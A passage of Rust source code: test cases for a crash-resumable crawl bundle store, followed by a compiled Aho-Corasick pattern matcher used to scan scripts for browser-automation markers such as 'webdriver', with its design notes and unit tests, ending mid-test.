        assert!(err.to_string().contains("header"), "{err}");
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn payloads_with_framing_bytes_are_rejected() {
        let dir = tmpdir("payload");
        let w = BundleWriter::create(&dir, "c").unwrap();
        assert!(w.append_entry("a\nb").is_err());
        assert!(w.append_entry("a\x1fb").is_err());
        assert!(w.append_entry("plain").is_ok());
        w.commit("ok").unwrap();
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn missing_bundle_is_not_found() {
        let err = BundleReader::open(tmpdir("missing")).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::NotFound);
    }

    #[test]
    fn append_entry_reports_line_boundary_high_water_marks() {
        let dir = tmpdir("hwm");
        let w = BundleWriter::create(&dir, "c").unwrap();
        let header_len = w.manifest_len();
        let h1 = w.append_entry("one").unwrap();
        let h2 = w.append_entry("two").unwrap();
        assert!(header_len < h1 && h1 < h2);
        assert_eq!(w.manifest_len(), h2);
        w.commit("done").unwrap();

        let r = BundleReader::open(&dir).unwrap();
        assert_eq!(r.entry_ends, vec![h1, h2]);
        assert!(r.manifest_len > h2, "commit line lies beyond the last entry");
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn torn_append_then_resume_truncates_and_continues() {
        let dir = tmpdir("resume");
        let w = BundleWriter::create(&dir, "c").unwrap();
        w.put_blob("shared body").unwrap();
        w.append_entry("one").unwrap();
        let hwm = w.append_entry("two").unwrap();
        // The process dies at byte 7 of the third entry's append.
        w.append_entry_torn("three", 7).unwrap();
        drop(w);

        let r = BundleReader::open(&dir).unwrap();
        assert_eq!(r.entries.len(), 2, "torn tail must not parse");
        assert_eq!(r.dropped_lines, 1);
        assert!(r.manifest_len > hwm);

        // Resume: truncate to the checkpointed HWM, finish the crawl.
        let w = BundleWriter::append_to(&dir, "c", hwm).unwrap();
        assert_eq!(w.manifest_len(), hwm);
        let dup = w.put_blob("shared body").unwrap();
        assert_eq!(dup, fnv1a(b"shared body"), "dedup set re-seeded across restart");
        w.append_entry("three").unwrap();
        let stats = w.commit("done").unwrap();
        assert_eq!(stats.entries, 3, "count continues from the surviving prefix");
        assert_eq!(stats.blobs_written, 0);
        assert_eq!(stats.dedup_hits, 1);

        let r = BundleReader::open(&dir).unwrap();
        assert_eq!(r.entries, vec!["one", "two", "three"]);
        assert_eq!(r.dropped_lines, 0);
        assert_eq!(r.commit.as_deref(), Some("done"));
        assert_eq!(r.blobs.len(), 1);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn resume_truncates_torn_blob_tail() {
        let dir = tmpdir("resume-blobs");
        let w = BundleWriter::create(&dir, "c").unwrap();
        w.put_blob("first body").unwrap();
        let hwm = w.append_entry("one").unwrap();
        w.put_blob("second body cut short").unwrap();
        drop(w);
        // Tear the blob store mid-way through the second body.
        let path = dir.join(BLOBS_FILE);
        let bytes = std::fs::read(&path).unwrap();
        std::fs::write(&path, &bytes[..bytes.len() - 6]).unwrap();

        let w = BundleWriter::append_to(&dir, "c", hwm).unwrap();
        let h = w.put_blob("fresh body").unwrap();
        w.append_entry("two").unwrap();
        w.commit("done").unwrap();

        let r = BundleReader::open(&dir).unwrap();
        assert!(!r.torn_blob_tail, "resume must have excised the torn record");
        assert_eq!(r.blobs.len(), 2);
        assert!(r.blob(fnv1a(b"first body")).is_some());
        assert!(r.blob(h).is_some());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn resume_rejects_config_mismatch_and_bad_marks() {
        let dir = tmpdir("resume-guards");
        let w = BundleWriter::create(&dir, "c").unwrap();
        let hwm = w.append_entry("one").unwrap();
        drop(w);

        let err = BundleWriter::append_to(&dir, "other-config", hwm).map(|_| ()).unwrap_err();
        assert!(err.to_string().contains("different configuration"), "{err}");
        let err = BundleWriter::append_to(&dir, "c", hwm - 1).map(|_| ()).unwrap_err();
        assert!(err.to_string().contains("line boundary"), "{err}");
        let err = BundleWriter::append_to(&dir, "c", hwm + 999).map(|_| ()).unwrap_err();
        assert!(err.to_string().contains("outside manifest"), "{err}");
        let err = BundleWriter::append_to(&dir, "c", 0).map(|_| ()).unwrap_err();
        assert!(err.to_string().contains("outside manifest"), "{err}");
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn concurrent_writers_never_corrupt_the_store() {
        let dir = tmpdir("concurrent");
        let w = BundleWriter::create(&dir, "c").unwrap();
        std::thread::scope(|s| {
            for t in 0..8 {
                let w = &w;
                s.spawn(move || {
                    for i in 0..50 {
                        // Heavy cross-thread duplication: 25 distinct bodies.
                        w.put_blob(&format!("body-{}", i % 25)).unwrap();
                        w.append_entry(&format!("t{t}-e{i}")).unwrap();
                    }
                });
            }
        });
        let stats = w.commit("done").unwrap();
        assert_eq!(stats.entries, 400);
        assert_eq!(stats.blobs_written, 25);
        assert_eq!(stats.dedup_hits, 375);
        let r = BundleReader::open(&dir).unwrap();
        assert_eq!(r.entries.len(), 400);
        assert_eq!(r.blobs.len(), 25);
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
