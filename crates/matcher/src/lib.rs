//! # matcher — compiled multi-pattern automaton engine
//!
//! A zero-dependency Aho-Corasick-style set matcher, built for the static
//! detector scan: many literal patterns compiled once into a single
//! automaton (literal set → trie → failure links → dense byte-class
//! transition table), then every script scanned in one pass regardless of
//! how many patterns the catalogue holds.
//!
//! The paper's pattern set is *not* a plain literal set — its precision
//! results rest on carefully iterated anchored semantics (the undelimited
//! `webdriver` form must reject `_webdriver`/`webdriver-` neighbours). The
//! automaton therefore reports *candidate* hits, and a thin semantic layer
//! confirms each candidate against its pattern's [`Anchor`] before the
//! pattern counts as matched. This keeps the engine exactly equivalent to
//! running every pattern's naive matcher independently, which is what the
//! differential suites assert.
//!
//! Design notes:
//!
//! * **Byte classes.** Only bytes that occur in some literal get their own
//!   transition column; every other byte shares class 0, which always
//!   returns to the root. For the Table 13 set this compresses the
//!   transition table from `states × 256` to `states × ~32` entries — it
//!   fits in L1, which is what makes the scan loop fast.
//! * **Output-state numbering.** States are renumbered so every state with
//!   a non-empty output set sits at the top of the index range; the hot
//!   loop detects "some literal ends here" with one integer comparison
//!   instead of a side-table load.
//! * **Full-DFA transitions.** Failure links are folded into the table at
//!   build time (`δ(s, c)` is precomputed through the failure chain), so
//!   the scan loop is exactly one table load per input byte.

use std::collections::BTreeMap;

/// Positional guard a candidate hit must satisfy before its pattern counts
/// as matched — the anchored-semantics layer on top of the literal
/// automaton.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Anchor {
    /// Plain substring: any occurrence confirms.
    Substring,
    /// Confirms only where neither the byte before the occurrence nor the
    /// byte after it is one of `delims` (the paper's "`webdriver` not
    /// adjacent to `_` or `-`" form). Checked on bytes: every delimiter is
    /// ASCII, and no UTF-8 continuation byte can equal an ASCII byte, so
    /// byte semantics and char semantics agree.
    Undelimited { delims: &'static [u8] },
}

/// One pattern: a set of alternative literals (any confirmed occurrence of
/// any literal matches the pattern) plus the anchor guard they share.
#[derive(Clone, Debug)]
pub struct PatternDef {
    pub literals: Vec<String>,
    pub anchor: Anchor,
}

impl PatternDef {
    /// A single plain-substring literal.
    pub fn substring(lit: &str) -> PatternDef {
        PatternDef { literals: vec![lit.to_owned()], anchor: Anchor::Substring }
    }

    /// Several alternative literals, any of which matches the pattern.
    pub fn alternation(lits: &[&str]) -> PatternDef {
        PatternDef {
            literals: lits.iter().map(|l| (*l).to_owned()).collect(),
            anchor: Anchor::Substring,
        }
    }

    /// A literal guarded by the undelimited-neighbour check.
    pub fn undelimited(lit: &str, delims: &'static [u8]) -> PatternDef {
        PatternDef { literals: vec![lit.to_owned()], anchor: Anchor::Undelimited { delims } }
    }
}

/// Counters from one scan: how many literal occurrences the automaton
/// reported, and how many survived their anchor guard.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ScanStats {
    pub candidate_hits: u64,
    pub confirmed_hits: u64,
}

/// Result of scanning one haystack: a per-pattern match bitmask plus the
/// candidate/confirmed accounting.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct MatchSet {
    mask: u64,
    pub stats: ScanStats,
}

impl MatchSet {
    /// Did pattern `idx` (build order) match?
    pub fn matched(&self, idx: usize) -> bool {
        self.mask & (1u64 << idx) != 0
    }

    /// Did any pattern match?
    pub fn any(&self) -> bool {
        self.mask != 0
    }

    /// The raw per-pattern bitmask (bit `i` = pattern `i` matched).
    pub fn mask(&self) -> u64 {
        self.mask
    }
}

/// One flattened literal: which pattern it belongs to, its byte length,
/// and that pattern's anchor (denormalised for the hot confirm path).
#[derive(Clone, Copy, Debug)]
struct Lit {
    pattern: u16,
    len: u32,
    anchor: Anchor,
}

/// Trie node used during construction only.
#[derive(Default)]
struct TrieNode {
    next: BTreeMap<u8, u32>,
    /// Literal ids ending at this node (own, then failure-closure merged).
    out: Vec<u16>,
    fail: u32,
}

/// A pattern set compiled to a dense-table Aho-Corasick DFA. Build once
/// per set, scan any number of haystacks; `scan` takes `&self`, so one
/// compiled matcher is shared across worker threads freely.
pub struct CompiledMatcher {
    /// `table[state_row + class]` → next state's row offset. Entries are
    /// premultiplied by `n_classes`, so the scan loop's per-byte step is a
    /// single add + load with no multiply on the critical load-to-load
    /// dependency chain.
    ///
    /// Invariant (the scan loop's unchecked indexing relies on it): every
    /// entry is `state * n_classes` for a valid state, so `entry + class <
    /// table.len()` for any `class < n_classes`, and every value in
    /// `classes` is `< n_classes`.
    table: Vec<u32>,
    /// Byte → transition-column class (0 = "in no literal", returns to root).
    classes: [u8; 256],
    n_classes: usize,
    /// States `>= out_start` have at least one literal ending in them.
    out_start: usize,
    /// `out_start * n_classes`: row offsets at/above this belong to output
    /// states — the hot loop's one-comparison hit test.
    out_row_start: usize,
    /// Output sets for states `out_start..`, indexed by `state - out_start`.
    out_lits: Vec<Vec<u16>>,
    lits: Vec<Lit>,
    n_patterns: usize,
    /// Longest literal in bytes — the segment-overlap bound for the
    /// interleaved scan.
    max_lit: usize,
    /// A byte that occurs in *every* literal (the rarest such byte by
    /// typical script-text frequency), if one exists. No literal can end
    /// more than `max_lit - 1` bytes past an occurrence of this byte, so
    /// a haystack where it is sparse is scanned by skipping between
    /// occurrences instead of walking the DFA over every byte.
    rare: Option<u8>,
}

impl CompiledMatcher {
    /// Compile `patterns` (at most 64, order defines the result bit for
    /// each) into one automaton. Panics on an empty pattern list, an empty
    /// literal, or more than 64 patterns — pattern sets are static
    /// catalogues, so these are build-time programming errors, not inputs.
    pub fn build(patterns: &[PatternDef]) -> CompiledMatcher {
        assert!(!patterns.is_empty(), "empty pattern set");
        assert!(patterns.len() <= 64, "at most 64 patterns per matcher (got {})", patterns.len());

        // Flatten to literals and assign byte classes.
        let mut lits: Vec<Lit> = Vec::new();
        let mut lit_bytes: Vec<&[u8]> = Vec::new();
        let mut classes = [0u8; 256];
        let mut n_classes = 1usize; // class 0 = "no literal contains this byte"
        for (pi, pat) in patterns.iter().enumerate() {
            assert!(!pat.literals.is_empty(), "pattern {pi} has no literals");
            for l in &pat.literals {
                assert!(!l.is_empty(), "pattern {pi} has an empty literal");
                lits.push(Lit { pattern: pi as u16, len: l.len() as u32, anchor: pat.anchor });
                lit_bytes.push(l.as_bytes());
                for &b in l.as_bytes() {
                    if classes[b as usize] == 0 {
                        classes[b as usize] = n_classes as u8;
                        n_classes += 1;
                    }
                }
            }
        }
        assert!(n_classes <= 256, "byte-class overflow");

        // Trie.
        let mut trie: Vec<TrieNode> = vec![TrieNode::default()];
        for (li, bytes) in lit_bytes.iter().enumerate() {
            let mut s = 0u32;
            for &b in *bytes {
                let n = trie.len() as u32;
                s = match trie[s as usize].next.get(&b) {
                    Some(&c) => c,
                    None => {
                        trie[s as usize].next.insert(b, n);
                        trie.push(TrieNode::default());
                        n
                    }
                };
            }
            trie[s as usize].out.push(li as u16);
        }
        assert!(trie.len() < u16::MAX as usize, "pattern set too large for u16 states");

        // BFS failure links; merge output sets down the failure chain
        // (parents are processed before children, so `fail`'s outputs are
        // already closed when we copy them).
        let mut queue: std::collections::VecDeque<u32> = std::collections::VecDeque::new();
        let roots: Vec<(u8, u32)> = trie[0].next.iter().map(|(&b, &c)| (b, c)).collect();
        for (_, c) in &roots {
            trie[*c as usize].fail = 0;
            queue.push_back(*c);
        }
        while let Some(s) = queue.pop_front() {
            let edges: Vec<(u8, u32)> = trie[s as usize].next.iter().map(|(&b, &c)| (b, c)).collect();
            for (b, c) in edges {
                // Walk the failure chain to find the deepest proper suffix
                // with a `b`-edge.
                let mut f = trie[s as usize].fail;
                let fail_of_c = loop {
                    if let Some(&t) = trie[f as usize].next.get(&b) {
                        break t;
                    }
                    if f == 0 {
                        break 0;
                    }
                    f = trie[f as usize].fail;
                };
                // A root self-edge case: if s's fail chain resolves to c
                // itself (only possible when c is a depth-1 node), fail is
                // the root.
                let fail_of_c = if fail_of_c == c { 0 } else { fail_of_c };
                trie[c as usize].fail = fail_of_c;
                let merged: Vec<u16> = trie[fail_of_c as usize].out.clone();
                trie[c as usize].out.extend(merged);
                queue.push_back(c);
            }
        }

        // Renumber: output-free states first (root stays at index 0),
        // output states at the top of the range.
        let n = trie.len();
        let mut order: Vec<u32> = Vec::with_capacity(n);
        order.extend((0..n as u32).filter(|&s| trie[s as usize].out.is_empty()));
        let out_start = order.len();
        order.extend((0..n as u32).filter(|&s| !trie[s as usize].out.is_empty()));
        let mut new_of = vec![0u16; n];
        for (new, &old) in order.iter().enumerate() {
            new_of[old as usize] = new as u16;
        }
        debug_assert_eq!(new_of[0], 0, "root has no output (empty literals are rejected)");

        // Dense DFA table in class space, failure links folded in. BFS
        // order guarantees `δ(fail(s), ·)` rows are complete before `s`'s
        // row is derived from them.
        let mut table = vec![0u16; n * n_classes];
        let mut bfs: std::collections::VecDeque<u32> = std::collections::VecDeque::new();
        // Root row: class 0 and absent edges stay at the root.
        for (b, c) in &roots {
            table[new_of[0] as usize * n_classes + classes[*b as usize] as usize] = new_of[*c as usize];
            bfs.push_back(*c);
        }
        while let Some(s) = bfs.pop_front() {
            let srow = new_of[s as usize] as usize * n_classes;
            let frow = new_of[trie[s as usize].fail as usize] as usize * n_classes;
            for cls in 0..n_classes {
                table[srow + cls] = table[frow + cls];
            }
            let edges: Vec<(u8, u32)> = trie[s as usize].next.iter().map(|(&b, &c)| (b, c)).collect();
            for (b, c) in edges {
                table[srow + classes[b as usize] as usize] = new_of[c as usize];
                bfs.push_back(c);
            }
        }

        let mut out_lits: Vec<Vec<u16>> = vec![Vec::new(); n - out_start];
        for (old, node) in trie.iter().enumerate() {
            if !node.out.is_empty() {
                out_lits[new_of[old] as usize - out_start] = node.out.clone();
            }
        }

        // Premultiply every entry by the class count: states become row
        // offsets and the scan step needs no multiply.
        let table: Vec<u32> = table.iter().map(|&t| t as u32 * n_classes as u32).collect();
        let max_lit = lit_bytes.iter().map(|b| b.len()).max().unwrap_or(0);

        // A byte required by every literal licenses the skip scan; among
        // the candidates, prefer the one least common in script text.
        let mut required = [true; 256];
        for bytes in &lit_bytes {
            let mut present = [false; 256];
            for &b in *bytes {
                present[b as usize] = true;
            }
            for (r, p) in required.iter_mut().zip(present.iter()) {
                *r &= *p;
            }
        }
        let rare = (0u16..256)
            .map(|b| b as u8)
            .filter(|&b| required[b as usize])
            .min_by_key(|&b| commonness(b));

        CompiledMatcher {
            table,
            classes,
            n_classes,
            out_start,
            out_row_start: out_start * n_classes,
            out_lits,
            lits,
            n_patterns: patterns.len(),
            max_lit,
            rare,
        }
    }

    /// Number of patterns in the compiled set.
    pub fn pattern_count(&self) -> usize {
        self.n_patterns
    }

    /// Number of literals the automaton tracks.
    pub fn literal_count(&self) -> usize {
        self.lits.len()
    }

    /// Number of DFA states (trie size after closure).
    pub fn state_count(&self) -> usize {
        self.table.len() / self.n_classes
    }

    /// Scan `haystack` once, confirming every candidate against its
    /// pattern's anchor. Every occurrence of every literal is visited (the
    /// candidate/confirmed stats are a deterministic function of the
    /// haystack), so verdicts — and accounting — do not depend on pattern
    /// order or early exits.
    ///
    /// Three strategies, all producing byte-identical masks and stats:
    ///
    /// - short haystacks: one sequential DFA walk;
    /// - long haystacks where the set's required byte is sparse: skip
    ///   between occurrences of that byte (no literal can end outside a
    ///   `max_lit`-window after one) and walk the DFA only inside those
    ///   windows;
    /// - long haystacks otherwise: split into segments walked by
    ///   interleaved independent state chains — a single chain serialises
    ///   on one load-to-load dependency per byte, several chains pipeline.
    ///
    /// Every non-sequential walk starts `max_lit - 1` bytes before the
    /// range it reports, so its DFA state is exact at every reported
    /// position; reported ranges partition the haystack, so the union
    /// equals a single sequential pass exactly.
    pub fn scan(&self, haystack: &str) -> MatchSet {
        let bytes = haystack.as_bytes();
        let mut out = MatchSet { mask: 0, stats: ScanStats::default() };
        if bytes.len() < LONG_SCAN_MIN {
            self.scan_segment(bytes, 0, 0, bytes.len(), &mut out);
        } else if let Some(rare) = self.rare.filter(|&rb| rare_is_sparse(rb, bytes)) {
            self.scan_prefiltered(bytes, rare, &mut out);
        } else {
            self.scan_interleaved(bytes, &mut out);
        }
        out
    }

    /// One DFA step: the add + load on the critical path.
    #[inline(always)]
    fn step(&self, s: usize, b: u8) -> usize {
        self.table[s + self.classes[b as usize] as usize] as usize
    }

    /// Record every literal ending at `end` (row offset `s` is an output
    /// state), confirming anchors. Out of the hot loop: hits are rare.
    #[cold]
    fn report(&self, bytes: &[u8], end: usize, s: usize, out: &mut MatchSet) {
        let state = s / self.n_classes;
        for &li in &self.out_lits[state - self.out_start] {
            out.stats.candidate_hits += 1;
            let lit = self.lits[li as usize];
            if anchor_ok(bytes, end, lit) {
                out.stats.confirmed_hits += 1;
                out.mask |= 1u64 << lit.pattern;
            }
        }
    }

    /// Walk the DFA over `bytes[lead..to]`, reporting only occurrences
    /// ending at or after `from` (earlier ends belong to the previous
    /// segment). `lead` must trail `from` by at least `max_lit - 1` bytes
    /// so the state is exact for every reported position.
    fn scan_segment(&self, bytes: &[u8], lead: usize, from: usize, to: usize, out: &mut MatchSet) {
        let mut s = 0usize;
        for i in lead..to {
            s = self.step(s, bytes[i]);
            if s >= self.out_row_start && i >= from {
                self.report(bytes, i, s, out);
            }
        }
    }

    fn scan_interleaved(&self, bytes: &[u8], out: &mut MatchSet) {
        const LANES: usize = 8;
        let n = bytes.len();
        let q = n / LANES;
        let overlap = self.max_lit.saturating_sub(1);
        let mut from = [0usize; LANES];
        let mut end = [0usize; LANES];
        let mut pos = [0usize; LANES];
        let mut st = [0u32; LANES];
        for l in 0..LANES {
            from[l] = q * l;
            end[l] = if l + 1 == LANES { n } else { q * (l + 1) };
            pos[l] = from[l].saturating_sub(overlap);
        }
        // Main loop: the shortest lane's step count (lane 0 has no
        // lead-in), LANES independent chains per iteration. The inner loop
        // fully unrolls; `pos`/`st` live in registers.
        let steps = (0..LANES).map(|l| end[l] - pos[l]).min().unwrap_or(0);
        let table = &self.table[..];
        let out_row = self.out_row_start as u32;
        for _ in 0..steps {
            for l in 0..LANES {
                let i = pos[l];
                // SAFETY: `i < end[l] <= n` for each of the `steps`
                // iterations, and `st[l] + class` is in bounds by the
                // table invariant (every entry is a premultiplied row
                // offset; every class is `< n_classes`).
                let b = unsafe { *bytes.get_unchecked(i) };
                let c = self.classes[b as usize] as usize;
                let s = unsafe { *table.get_unchecked(st[l] as usize + c) };
                st[l] = s;
                if s >= out_row && i >= from[l] {
                    self.report(bytes, i, s as usize, out);
                }
                pos[l] = i + 1;
            }
        }
        // Remainders (lead-in imbalance plus the `n % LANES` tail).
        for l in 0..LANES {
            let mut s = st[l] as usize;
            for i in pos[l]..end[l] {
                s = self.step(s, bytes[i]);
                if s >= self.out_row_start && i >= from[l] {
                    self.report(bytes, i, s, out);
                }
            }
        }
    }

    /// Skip scan for haystacks where the set's required byte is sparse.
    ///
    /// A literal ending at `e` spans `[e - len + 1, e]` and contains the
    /// required byte, so every possible end lies in `[t, t + max_lit - 1]`
    /// for some occurrence `t`. Occurrence windows are merged into maximal
    /// runs and each run is walked with the usual `max_lit - 1` lead-in;
    /// everything between runs is skipped at `find_byte` speed. Runs
    /// partition the set of possible ends, so mask and stats are exactly
    /// those of a full sequential walk.
    fn scan_prefiltered(&self, bytes: &[u8], rare: u8, out: &mut MatchSet) {
        let w = self.max_lit;
        let n = bytes.len();
        let mut next = find_byte(rare, bytes, 0);
        while let Some(t) = next {
            let run_from = t;
            let mut run_to = (t + w).min(n);
            next = find_byte(rare, bytes, t + 1);
            while let Some(t2) = next {
                if t2 > run_to {
                    break;
                }
                run_to = (t2 + w).min(n);
                next = find_byte(rare, bytes, t2 + 1);
            }
            self.scan_segment(bytes, run_from.saturating_sub(w - 1), run_from, run_to, out);
        }
    }
}

/// Position of the first `needle` byte at or after `from`, scanning 16
/// bytes per iteration (SWAR zero-byte detection) — the skip loop of the
/// prefiltered scan.
fn find_byte(needle: u8, hay: &[u8], from: usize) -> Option<usize> {
    const LO: u64 = 0x0101_0101_0101_0101;
    const HI: u64 = 0x8080_8080_8080_8080;
    #[inline(always)]
    fn zero_byte(x: u64) -> u64 {
        x.wrapping_sub(LO) & !x & HI
    }
    let from = from.min(hay.len());
    let pat = LO.wrapping_mul(needle as u64);
    let mut chunks = hay[from..].chunks_exact(16);
    let mut off = from;
    for c in &mut chunks {
        let a = zero_byte(u64::from_le_bytes(c[..8].try_into().unwrap()) ^ pat);
        let b = zero_byte(u64::from_le_bytes(c[8..].try_into().unwrap()) ^ pat);
        if a | b != 0 {
            let byte = if a != 0 {
                a.trailing_zeros() / 8
            } else {
                8 + b.trailing_zeros() / 8
            };
            return Some(off + byte as usize);
        }
        off += 16;
    }
    chunks.remainder().iter().position(|&b| b == needle).map(|i| off + i)
}

/// Decide between the skip scan and the interleaved walk by sampling the
/// required byte's density at the front of the haystack. Deterministic in
/// the haystack bytes, and never observable in results — both paths are
/// exact.
fn rare_is_sparse(rare: u8, bytes: &[u8]) -> bool {
    let probe = &bytes[..bytes.len().min(2048)];
    probe.iter().filter(|&&b| b == rare).count() * 64 < probe.len()
}

/// Approximate commonness of a byte in script text (lower = rarer,
/// bytes not listed at all are the rarest); used only to pick the best
/// required byte for the skip scan.
fn commonness(b: u8) -> u32 {
    const COMMON: &[u8] = b" etaonisrhldcumfpgwybvkxjqz.,;:()[]{}'\"=+-_$0123456789";
    match COMMON.iter().position(|&c| c.eq_ignore_ascii_case(&b)) {
        Some(i) => COMMON.len() as u32 - i as u32,
        None => 0,
    }
}

/// Below this length a haystack is scanned by one sequential chain — the
/// skip-scan and interleaving setup isn't worth it for typical inline
/// scripts.
const LONG_SCAN_MIN: usize = 4096;

/// Evaluate `lit`'s anchor for an occurrence ending at byte `end` (the
/// index of the occurrence's last byte).
#[inline]
fn anchor_ok(bytes: &[u8], end: usize, lit: Lit) -> bool {
    match lit.anchor {
        Anchor::Substring => true,
        Anchor::Undelimited { delims } => {
            let start = end + 1 - lit.len as usize;
            let before_ok = start == 0 || !delims.contains(&bytes[start - 1]);
            let after_ok = end + 1 >= bytes.len() || !delims.contains(&bytes[end + 1]);
            before_ok && after_ok
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(defs: &[PatternDef]) -> CompiledMatcher {
        CompiledMatcher::build(defs)
    }

    #[test]
    fn single_substring() {
        let m = set(&[PatternDef::substring("webdriver")]);
        assert!(m.scan("check navigator.webdriver now").matched(0));
        assert!(!m.scan("check navigator.webdrive now").matched(0));
        assert!(m.scan("webdriver").matched(0));
    }

    #[test]
    fn empty_and_tiny_inputs() {
        let m = set(&[PatternDef::substring("abc"), PatternDef::substring("b")]);
        let r = m.scan("");
        assert!(!r.any());
        assert_eq!(r.stats, ScanStats::default());
        assert!(!m.scan("a").any());
        let r = m.scan("b");
        assert!(r.matched(1));
        assert!(!r.matched(0));
    }

    #[test]
    fn huge_input_with_matches_at_both_ends() {
        let mut s = String::from("needle-alpha ");
        s.push_str(&"x".repeat(2_000_000));
        s.push_str(" needle-omega");
        let m = set(&[
            PatternDef::substring("needle-alpha"),
            PatternDef::substring("needle-omega"),
            PatternDef::substring("absent"),
        ]);
        let r = m.scan(&s);
        assert!(r.matched(0) && r.matched(1) && !r.matched(2));
        assert_eq!(r.stats.candidate_hits, 2);
        assert_eq!(r.stats.confirmed_hits, 2);
    }

    #[test]
    fn patterns_that_are_prefixes_of_each_other() {
        let m = set(&[PatternDef::substring("web"), PatternDef::substring("webdriver")]);
        let r = m.scan("xxwebdriverxx");
        assert!(r.matched(0) && r.matched(1));
        let r = m.scan("xxwebxx");
        assert!(r.matched(0) && !r.matched(1));
        // Suffix relation too: one literal ending inside another.
        let m = set(&[PatternDef::substring("driver"), PatternDef::substring("webdriver")]);
        let r = m.scan("a webdriver b");
        assert!(r.matched(0) && r.matched(1));
        assert_eq!(r.stats.candidate_hits, 2, "both literals end at the same position");
    }

    #[test]
    fn overlapping_occurrences_all_reported() {
        let m = set(&[PatternDef::substring("aba")]);
        let r = m.scan("ababa");
        assert!(r.matched(0));
        assert_eq!(r.stats.candidate_hits, 2, "overlapping hits both count");
        let m = set(&[PatternDef::substring("abab"), PatternDef::substring("baba")]);
        let r = m.scan("ababab");
        assert!(r.matched(0) && r.matched(1));
    }

    #[test]
    fn alternation_matches_any_literal() {
        let m = set(&[PatternDef::alternation(&[
            "navigator[\"webdriver\"]",
            "navigator['webdriver']",
        ])]);
        assert!(m.scan("x = navigator['webdriver'];").matched(0));
        assert!(m.scan("x = navigator[\"webdriver\"];").matched(0));
        assert!(!m.scan("x = navigator[webdriver];").matched(0));
    }

    #[test]
    fn undelimited_anchor_guards_candidates() {
        let m = set(&[PatternDef::undelimited("webdriver", b"_-")]);
        assert!(m.scan("check(navigator.webdriver);").matched(0));
        // Exactly the haystack, no neighbours at all.
        assert!(m.scan("webdriver").matched(0));
        for benign in ["my_webdriver_flag", "-webdriver", "webdriver-", "_webdriver", "webdriver_"] {
            let r = m.scan(benign);
            assert!(!r.matched(0), "{benign:?} must be rejected by the guard");
            assert_eq!(r.stats.candidate_hits, 1, "{benign:?} is still a candidate");
            assert_eq!(r.stats.confirmed_hits, 0);
        }
        // One delimited plus one clean occurrence: the clean one confirms.
        let r = m.scan("_webdriver_ and webdriver.");
        assert!(r.matched(0));
        assert_eq!(r.stats.candidate_hits, 2);
        assert_eq!(r.stats.confirmed_hits, 1);
    }

    #[test]
    fn undelimited_guard_ignores_non_ascii_neighbours() {
        let m = set(&[PatternDef::undelimited("webdriver", b"_-")]);
        // Multi-byte neighbours are not delimiters; byte- and char-level
        // checks agree because delimiters are ASCII.
        assert!(m.scan("éwebdriveré").matched(0));
    }

    #[test]
    fn non_ascii_haystack_bytes_take_the_class0_path() {
        let m = set(&[PatternDef::substring("webdriver")]);
        assert!(m.scan("héllo wörld webdriver héllo").matched(0));
        assert!(!m.scan("héllo wörld webdrivér").matched(0));
    }

    #[test]
    #[should_panic(expected = "empty literal")]
    fn empty_literal_rejected() {
        set(&[PatternDef::substring("")]);
    }

    #[test]
    #[should_panic(expected = "at most 64 patterns")]
    fn pattern_limit_enforced() {
        let defs: Vec<PatternDef> =
            (0..65).map(|i| PatternDef::substring(&format!("p{i}"))).collect();
        set(&defs);
    }

    #[test]
    fn stats_are_deterministic_per_haystack() {
        let m = set(&[
            PatternDef::substring("webdriver"),
            PatternDef::undelimited("webdriver", b"_-"),
        ]);
        let h = "_webdriver_ webdriver _webdriver_";
        let a = m.scan(h);
        let b = m.scan(h);
        assert_eq!(a, b);
        assert_eq!(a.stats.candidate_hits, 6, "3 occurrences x 2 literals sharing one state");
        assert_eq!(a.stats.confirmed_hits, 4, "3 substring + 1 undelimited");
    }

    /// The automaton agrees with independent `str::contains` passes on
    /// random pattern sets over random haystacks — the core equivalence the
    /// detect crate's differential suites then re-assert on real patterns.
    #[test]
    fn random_differential_vs_contains() {
        proplite::run_cases(400, 0x4A11, |rng| {
            let n_pats = rng.usize_in(1, 7);
            let mut literals: Vec<String> = Vec::new();
            let mut guard = 0;
            while literals.len() < n_pats && guard < 200 {
                let cand = rng.string_of("abcd", 1, 6);
                if !literals.contains(&cand) {
                    literals.push(cand);
                }
                guard += 1;
            }
            let defs: Vec<PatternDef> =
                literals.iter().map(|l| PatternDef::substring(l)).collect();
            let m = CompiledMatcher::build(&defs);
            let hay = rng.string_of("abcd", 0, 300);
            let r = m.scan(&hay);
            for (i, l) in literals.iter().enumerate() {
                assert_eq!(
                    r.matched(i),
                    hay.contains(l.as_str()),
                    "pattern {l:?} disagreed on haystack {hay:?}"
                );
            }
        });
    }

    /// Undelimited-anchor parity with the naive per-occurrence scan.
    #[test]
    fn random_differential_undelimited() {
        proplite::run_cases(400, 0x4A12, |rng| {
            let lit = rng.string_of("ab", 1, 4);
            let m = CompiledMatcher::build(&[PatternDef::undelimited(&lit, b"_-")]);
            let hay = rng.string_of("ab_-", 0, 200);
            // Naive reference: every occurrence, neighbour-checked.
            let mut expect = false;
            let mut start = 0;
            while let Some(i) = hay[start..].find(lit.as_str()) {
                let at = start + i;
                let before = hay.as_bytes()[..at].last().copied();
                let after = hay.as_bytes().get(at + lit.len()).copied();
                if !matches!(before, Some(b'_') | Some(b'-'))
                    && !matches!(after, Some(b'_') | Some(b'-'))
                {
                    expect = true;
                }
                start = at + 1;
            }
            assert_eq!(m.scan(&hay).matched(0), expect, "lit {lit:?} on {hay:?}");
        });
    }

    /// The long-haystack strategies (interleaved lanes when the required
    /// byte is dense, skip scan when it is sparse) are exactly equivalent
    /// to one sequential DFA walk — mask and stats both. The filler
    /// alphabet steers the dispatch: one variant is free of `r` (the
    /// required byte of this set), the other is dense in it.
    #[test]
    fn long_haystack_paths_match_sequential_walk() {
        let m = set(&[
            PatternDef::substring("webdriver"),
